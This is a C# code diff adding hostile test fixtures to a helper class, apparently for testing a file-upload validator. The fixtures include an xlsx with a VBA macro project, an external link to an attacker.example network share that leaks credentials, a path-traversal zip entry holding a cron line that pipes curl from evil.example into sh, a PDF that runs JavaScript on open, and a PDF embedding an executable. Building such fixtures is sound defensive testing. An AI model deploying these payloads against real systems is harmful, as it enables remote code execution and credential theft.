@@ -114,6 +114,33 @@ public static class HostileFiles
     private static byte[] Sheet1(string sheetData) =>
         ReplacePart(ValidRnMonthly(), "xl/worksheets/sheet1.xml", $"<?xml version=\"1.0\" encoding=\"UTF-8\"?><worksheet xmlns=\"{Main}\"><sheetData>{sheetData}</sheetData></worksheet>");
 
+    private const string Relationships = "http://schemas.openxmlformats.org/package/2006/relationships";
+
+    /// <summary>A valid return that also carries a VBA project (the part Excel runs as macros in an .xlsm).</summary>
+    public static byte[] WithVbaProject() => AddEntries(ValidRnMonthly(), [("xl/vbaProject.bin", Ole2())]);
+
+    /// <summary>A valid return with an external workbook link whose target is a network share (opening it reaches out, leaking credentials).</summary>
+    public static byte[] WithExternalLink() => AddEntries(ValidRnMonthly(),
+    [
+        ("xl/externalLinks/externalLink1.xml", Encoding.UTF8.GetBytes($"<externalLink xmlns=\"{Main}\"><externalBook r:id=\"rId1\" xmlns:r=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships\"/></externalLink>")),
+        ("xl/externalLinks/_rels/externalLink1.xml.rels", Encoding.UTF8.GetBytes($"<Relationships xmlns=\"{Relationships}\"><Relationship Id=\"rId1\" " +
+            "Type=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships/externalLinkPath\" Target=\"file:///\\\\attacker.example\\share\\book.xlsx\" TargetMode=\"External\"/></Relationships>")),
+    ]);
+
+    /// <summary>A valid return plus one entry under the given name (a "../" or absolute path an unzipping program would write outside its folder).</summary>
+    public static byte[] WithEntry(string name) => AddEntries(ValidRnMonthly(), [(name, Encoding.UTF8.GetBytes("* * * * * root curl evil.example | sh"))]);
+
+    /// <summary>A one-page PDF whose catalog runs JavaScript when it is opened.</summary>
+    public static byte[] PdfWithJavaScript() => Ascii(
+        "%PDF-1.7\n1 0 obj << /Type /Catalog /Pages 2 0 R /OpenAction 3 0 R >> endobj\n2 0 obj << /Type /Pages /Kids [] /Count 0 >> endobj\n" +
+        "3 0 obj << /S /JavaScript /JS (app.launchURL\\(\"http://evil.example\"\\);) >> endobj\ntrailer << /Root 1 0 R >>\n%%EOF\n");
+
+    /// <summary>A PDF carrying an executable as an embedded file.</summary>
+    public static byte[] PdfWithEmbeddedFile() => Ascii(
+        "%PDF-1.7\n1 0 obj << /Type /Catalog /Pages 2 0 R /Names << /EmbeddedFiles << /Names [(readme.exe) 3 0 R] >> >> >> endobj\n" +
+        "2 0 obj << /Type /Pages /Kids [] /Count 0 >> endobj\n3 0 obj << /Type /Filespec /F (readme.exe) /EF << /F 4 0 R >> >> endobj\n" +
+        "4 0 obj << /Type /EmbeddedFile /Length 2 >> stream\nMZ\nendstream endobj\ntrailer << /Root 1 0 R >>\n%%EOF\n");
+
     public static byte[] Csv(string text) => [0xEF, 0xBB, 0xBF, .. Encoding.UTF8.GetBytes(text)];
 
     private static byte[] BigEndian(int value) => [(byte)(value >> 24), (byte)(value >> 16), (byte)(value >> 8), (byte)value];
